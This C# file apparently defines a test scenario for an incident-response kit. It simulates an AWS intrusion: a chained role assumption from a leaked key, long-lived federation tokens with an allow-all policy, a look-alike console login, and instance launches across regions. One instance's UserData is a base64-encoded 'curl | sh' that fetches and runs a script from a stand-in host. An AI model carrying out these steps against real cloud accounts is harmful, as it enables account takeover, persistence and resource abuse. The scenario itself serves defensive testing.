namespace IncidentKit.Testing.Scenarios.FiveDays;

/// <summary>The attacker's temporary credentials: a chain of roles, federation, the console, an instance.</summary>
internal sealed class AttackSessions(ScenarioStage stage, Company company, CompanyRoles roles, Attack attack)
{
    /// <summary>From the leaked key through three roles; each can be taken again.</summary>
    internal void Chain()
    {
        var pipeline = Assume(attack.Leaked, roles.Pipeline, "build-4411");
        var operations = Assume(pipeline, roles.Operations, "ops");
        var export = Assume(operations, roles.Export, "export");
        operations.Call("iam", "ListUsers");
        export.Call("ec2", "CreateKeyPair", """{ "KeyName": "support-ap" }""", "ap-southeast-1");
        export.Run("ap-southeast-1", "c6i.8xlarge", 2, $$""" "KeyName": "support-ap", {{Hand.Named("worker")}} """);
    }

    /// <summary>Sessions that outlive their keys.</summary>
    internal void Federate()
    {
        var policy = Documents.Allow("*").Quoted();
        var federation = attack.SupportKey.Call("sts", "GetFederationToken", $$"""{ "Name": "health", "DurationSeconds": 129600, "Policy": {{policy}} }""");
        var federated = attack.Hold(attack.SupportKey, federation, federation.Part("FederatedUser").Text("Arn")!, Attack.Third);
        federated.Call("ec2", "DescribeInstances", region: "eu-west-1");
        federated.Call("ec2", "CreateKeyPair", """{ "KeyName": "support-eu" }""", "eu-west-1");
        var session = attack.Hold(attack.JonasKey, attack.JonasKey.Call("sts", "GetSessionToken", """{ "DurationSeconds": 129600 }"""), company.Arn("user/jonas.weber"), Attack.Third);
        session.Call("ec2", "DescribeSecurityGroups");
    }

    /// <summary>Signs in to the console as the user that looks like the owner's.</summary>
    internal void SignIn()
    {
        var actor = stage.Account.SignIn(Attack.Twin, "Maria-Was-Here-1!", Attack.Third, Attack.Console);
        var console = new Hand(stage, actor);
        attack.Held.Add((console, company.Arn("user/" + Attack.Twin), stage.Clock.GetUtcNow().AddHours(12)));
        console.Call("ec2", "DescribeInstances", region: "eu-west-1");
        console.Call("iam", "ListUsers");
        console.Call("ec2", "CreateSecurityGroup", """{ "GroupName": "launch-wizard-7", "Description": "launch-wizard-7 created by console" }""", "us-east-2");
    }

    /// <summary>An instance with an administrator's role, and what is called from it.</summary>
    internal void FromInstance()
    {
        var instance = attack.SupportKey.Run("us-east-1", "c6i.8xlarge", 1, $$""" "IamInstanceProfile": { "Name": "ec2-health-agent" }, "UserData": "IyEvYmluL3NoCmN1cmwgLXMgaHR0cDovLzE5Mi4wLjIuNjYvYSB8IHNoCg==", {{Hand.Named("health-agent")}} """)[0];
        stage.Clock.Advance(TimeSpan.FromMinutes(1));
        var actor = stage.Account.SessionOfInstance(instance).From(Attack.Host, Attack.OldBoto);
        var host = new Hand(stage, actor);
        attack.Held.Add((host, $"arn:aws:sts::{stage.Id}:assumed-role/ec2-health-agent/{instance}", stage.Clock.GetUtcNow().AddHours(6)));
        host.Call("sts", "GetCallerIdentity");
        host.Run("sa-east-1", "c6i.8xlarge", 1, Hand.Named("worker"));
    }

    private Hand Assume(Hand by, string role, string session)
    {
        var output = by.Call("sts", "AssumeRole", $$"""{ "RoleArn": "{{role}}", "RoleSessionName": "{{session}}" }""");
        return attack.Hold(by, output, output.Part("AssumedRoleUser").Text("Arn")!);
    }
}
